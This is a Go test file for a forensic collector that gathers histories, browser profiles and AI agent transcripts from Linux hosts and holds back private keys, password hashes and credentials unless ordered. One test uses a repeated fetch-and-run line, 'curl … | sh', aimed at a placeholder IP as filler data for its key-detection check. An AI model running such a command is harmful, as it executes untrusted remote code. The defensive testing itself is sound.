package collectors

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/asn1"
	"encoding/pem"
	"math/big"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/exhibit-dfir/exhibit/collect"
	"github.com/exhibit-dfir/exhibit/evidence"
	"github.com/exhibit-dfir/exhibit/internal/testenv"
)

func write(t *testing.T, h *collect.Host, path, text string) {
	t.Helper()
	full := filepath.Join(h.Root, path)
	check(t, os.MkdirAll(filepath.Dir(full), 0o755))
	check(t, os.WriteFile(full, []byte(text), 0o600))
}

func TestHomesComeFromPasswdAndFromWhatIsThere(t *testing.T) {
	h := plant(t,
		"root/.bash_history", "home/orphan/.zsh_history", "srv/www/.bash_history", ".bash_history",
		"home/anna/.python_history", "home/anna/.local/share/fish/fish_history", "home/anna/.ssh/authorized_keys2",
		"home/anna/.config/autostart/x.desktop", "home/anna/.viminfo", "home/anna/.bashrc", "home/anna/.local/share/recently-used.xbel",
		"home/anna/documents/private.txt", "home/we\xffird\n/.bash_history",
	)
	write(t, h, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nwww:x:33:33::/srv/www/:/usr/sbin/nologin\n"+
		"daemon:x:1:1::/:/usr/sbin/nologin\nbroken line\nrel:x:2:2::home:/bin/sh\nnone:x:3:3::/nonexistent:/bin/false\n")
	out := newMemoryTaker(h)
	check(t, linuxUsers.Run(context.Background(), h, out))
	want := []string{
		"/.bash_history", "/home/anna/.bashrc", "/home/anna/.config/autostart/x.desktop", "/home/anna/.local/share/fish/fish_history",
		"/home/anna/.local/share/recently-used.xbel", "/home/anna/.python_history", "/home/anna/.ssh/authorized_keys2", "/home/anna/.viminfo",
		"/home/orphan/.zsh_history", "/home/we\xffird\n/.bash_history", "/root/.bash_history", "/srv/www/.bash_history",
	}
	if got := out.paths(); !slices.Equal(got, want) {
		t.Errorf("took\n%q, want\n%q", got, want)
	}
	if out.seen["command histories"] != 7 {
		t.Errorf("ledger %v", out.seen)
	}
}

// keyFile makes a private key file and returns it with its fingerprint.
func keyFile(t *testing.T, passphrase string) (text, fingerprint string) {
	t.Helper()
	public, private, err := ed25519.GenerateKey(rand.Reader)
	check(t, err)
	block, err := ssh.MarshalPrivateKey(private, "comment")
	if passphrase != "" {
		block, err = ssh.MarshalPrivateKeyWithPassphrase(private, "comment", []byte(passphrase))
	}
	check(t, err)
	key, err := ssh.NewPublicKey(public)
	check(t, err)
	return string(pem.EncodeToMemory(block)), ssh.FingerprintSHA256(key)
}

func TestSecretsAreListedButNotTakenUnlessOrdered(t *testing.T) {
	plain, plainPrint := keyFile(t, "")
	locked, lockedPrint := keyFile(t, "secret")
	h := plant(t, "root/.ssh/authorized_keys", "root/.ssh/config", "root/.ssh/id_x.pub", "root/.aws/credentials", "root/.aws/config", "etc/shadow")
	write(t, h, "/root/.ssh/id_x", plain)
	write(t, h, "/root/.ssh/odd name", locked)
	write(t, h, "/root/.ssh/notes", "# -----BEGIN OPENSSH PRIVATE KEY-----\nnot one\n")
	write(t, h, "/etc/ssh/ssh_host_ed25519_key", plain)
	write(t, h, "/etc/nginx/site.pem", "certificate first\n"+plain)
	write(t, h, "/etc/security/opasswd", "root:0:1:$6$x\n")
	write(t, h, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
	run := func(secrets Secrets) *memoryTaker {
		out := newMemoryTaker(h)
		check(t, Users(secrets).Run(context.Background(), h, out))
		check(t, Persistence(secrets).Run(context.Background(), h, out))
		return out
	}
	secret := map[string]string{
		"/root/.ssh/id_x": plainPrint, "/root/.ssh/odd name": lockedPrint, "/etc/ssh/ssh_host_ed25519_key": plainPrint,
		"/etc/nginx/site.pem": plainPrint, "/etc/shadow": "password hashes", "/root/.aws/credentials": "stored credentials",
		"/etc/security/opasswd": "password hashes",
	}
	out := run(LeaveSecrets)
	for path, detail := range secret {
		if slices.Contains(out.paths(), path) {
			t.Errorf("%s was taken", path)
		}
		it, ok := out.note(path)
		if !ok || it.Kind != evidence.KindSkipped || it.Stat == nil || !strings.Contains(it.Detail, detail) {
			t.Errorf("%s: record %+v, want one that says %q", path, it, detail)
		}
	}
	for _, path := range []string{"/root/.ssh/authorized_keys", "/root/.ssh/config", "/root/.ssh/id_x.pub", "/root/.ssh/notes", "/root/.aws/config"} {
		if !slices.Contains(out.paths(), path) {
			t.Errorf("%s was not taken", path)
		}
	}
	ordered := run(TakeSecrets).paths()
	for path := range secret {
		if !slices.Contains(ordered, path) {
			t.Errorf("%s was not taken although ordered", path)
		}
	}
}

func TestLinkDoesNotLeadToASecret(t *testing.T) {
	h := plant(t, "etc/shadow", "root/.bashrc -> /etc/shadow", "root/.profile -> ../home/a/.netrc", "home/a/.netrc")
	write(t, h, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
	for secrets, taken := range map[Secrets]bool{LeaveSecrets: false, TakeSecrets: true} {
		out := newMemoryTaker(h)
		check(t, Users(secrets).Run(context.Background(), h, out))
		if got := slices.Contains(out.paths(), "/etc/shadow"); got != taken {
			t.Errorf("ordered %v: /etc/shadow taken %v", secrets, got)
		}
		if it, ok := out.note("/etc/shadow"); ok == taken || !taken && it.Kind != evidence.KindSkipped {
			t.Errorf("ordered %v: record %+v", secrets, it)
		}
	}
}

func TestPrivateKeysOfEveryToolAreRecognised(t *testing.T) {
	keygen := testenv.Tool(t, "ssh-keygen")
	for _, tc := range []struct{ name, kind, args string }{
		{"openssh ed25519", "OPENSSH PRIVATE KEY", "-t ed25519 -N ''"},
		{"openssh encrypted", "OPENSSH PRIVATE KEY", "-t ed25519 -N secret"},
		{"pem rsa", "RSA PRIVATE KEY", "-t rsa -b 2048 -m PEM -N ''"},
		{"pkcs8 ecdsa", "PRIVATE KEY", "-t ecdsa -m PKCS8 -N ''"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "key")
			shell(t, keygen+" -q -C x -f "+file+" "+tc.args)
			want := strings.Fields(shell(t, keygen+" -l -f "+file+".pub"))[1]
			text, err := os.ReadFile(file)
			check(t, err)
			kind, public := privateKey(text)
			if kind != tc.kind || !strings.Contains(public, want) {
				t.Errorf("%q, %q; want %q, %q", kind, public, tc.kind, want)
			}
			pub, err := os.ReadFile(file + ".pub")
			check(t, err)
			if kind, _ := privateKey(pub); kind != "" {
				t.Errorf("public key taken for a %s", kind)
			}
		})
	}
	if kind, _ := privateKey([]byte("\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x40")); kind != "Dropbear" {
		t.Errorf("Dropbear key taken for %q", kind)
	}
}

// A first line, or a few bytes, make no key of what follows.
func TestWhatOnlyBeginsLikeAKeyIsTaken(t *testing.T) {
	script := strings.Repeat("curl -s http://203.0.113.7/x | sh # again\n", 20)
	rsa := "\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01" + strings.Repeat("\x00\x00\x00\x80"+strings.Repeat("n", 128), 4)
	putty := "PuTTY-User-Key-File-3: ssh-ed25519\r\nEncryption: none\r\nComment: me\r\nPublic-Lines: 2\r\nAAAAC3NzaC1lZDI1NTE5\r\nAAAA\r\nPrivate-Lines: 1\r\nAAAAIN==\r\nPrivate-MAC: 00ff\r\n"
	for text, secret := range map[string]bool{
		rsa: true, rsa[:300]: true, putty: true, strings.ReplaceAll(putty, "\r", ""): true,
		"PuTTY-User-Key-File-3: ssh-rsa\n" + script: false, "\x00\x00\x00\x07ssh-rsa" + script: false,
		"\x00\x00\x00\x0bssh-ed25519" + strings.Repeat("\x00\x00\x00\x40"+script[:64], 10): false,
	} {
		kind, _ := privateKey([]byte(text))
		leave, _ := leaveKeys([]byte(text))
		if (kind != "") != secret || leave != secret {
			t.Errorf("%.40q…: kind %q, left out: %v", text, kind, leave)
		}
	}
}

// Numbers without end in the clothes of a key do not keep a collector busy.
func TestAKeyLongerThanAnyIsNotCalculatedWith(t *testing.T) {
	number := func(bits uint) *big.Int {
		n := new(big.Int).Lsh(big.NewInt(3), bits-2)
		return n.Add(n, big.NewInt(7))
	}
	const bits = 1 << 18
	p, q := number(bits/2), number(bits/2+2)
	one := big.NewInt(1)
	phi := new(big.Int).Mul(new(big.Int).Sub(p, one), new(big.Int).Sub(q, one))
	e := big.NewInt(65537)
	d := new(big.Int).ModInverse(e, phi)
	if d == nil {
		d = number(bits)
	}
	der, err := asn1.Marshal(struct {
		Version                  int
		N, E, D, P, Q, DP, DQ, I *big.Int
	}{0, new(big.Int).Mul(p, q), e, d, p, q, new(big.Int).Mod(d, new(big.Int).Sub(p, one)), new(big.Int).Mod(d, new(big.Int).Sub(q, one)), number(bits / 2)})
	check(t, err)
	before := testenv.CPUSeconds()
	kind, public := privateKey(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: der}))
	if took := testenv.CPUSeconds() - before; kind == "" || !strings.Contains(public, "longer than any") || took > 1 {
		t.Errorf("%q, %q, %.1f CPU s", kind, public, took)
	}
}

func FuzzPrivateKeyIsRecognisedWithoutPanic(f *testing.F) {
	f.Add([]byte("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n"))
	f.Add([]byte("PuTTY-User-Key-File-3: ssh-ed25519\nPublic-Lines: 1\nAAAA\n"))
	f.Add([]byte("\x00\x00\x00\x07ssh-rsa"))
	f.Fuzz(func(t *testing.T, text []byte) {
		kind, public := privateKey(text)
		if (kind == "") != (public == "") {
			t.Fatalf("kind %q, public part %q", kind, public)
		}
		leave, detail := leaveKeys(text)
		if leave && kind == "" || (kind == "") != (detail == "") || keyBytes(text) < 0 {
			t.Fatalf("kind %q, left out: %v, %q", kind, leave, detail)
		}
	})
}

func TestBrowserProfilesAndTranscriptsAreTaken(t *testing.T) {
	want := map[string]string{
		"/home/a/.config/google-chrome/Default/History":                      "browser profiles",
		"/home/a/.config/chromium/Profile 1/Extensions/id/1.0/manifest.json": "browser profiles",
		"/home/a/.config/BraveSoftware/Brave-Browser/Default/Bookmarks":      "browser profiles",
		"/home/a/.mozilla/firefox/x.default/places.sqlite":                   "browser profiles",
		"/home/a/.mozilla/firefox/x.default/places.sqlite-wal":               "browser profiles",
		"/home/a/snap/firefox/common/.mozilla/firefox/profiles.ini":          "browser profiles",
		"/home/a/.claude/projects/-srv/session.jsonl":                        "transcripts of AI agents",
		"/home/a/.codex/sessions/2026/11/25/rollout.jsonl":                   "transcripts of AI agents",
		"/home/a/.gemini/tmp/x/logs.json":                                    "transcripts of AI agents",
		"/home/a/.aider.conf.yml":                                            "transcripts of AI agents",
		"/home/a/.aider.chat.history.md":                                     "command histories",
	}
	var specs []string
	for path := range want {
		specs = append(specs, path[1:])
	}
	out := taken(t, linuxUsers, append(specs, "home/a/.mozilla/firefox/x.default/storage/permanent/big", "home/a/.config/google-chrome/Default/Cache/f")...)
	for path, text := range out.content {
		if len(text) > 0 && want[path] == "" { // folders have none
			t.Errorf("%s was taken", path)
		}
	}
	for path, rule := range want {
		if out.rules[path] != rule {
			t.Errorf("%s: rule %q, want %q", path, out.rules[path], rule)
		}
	}
}
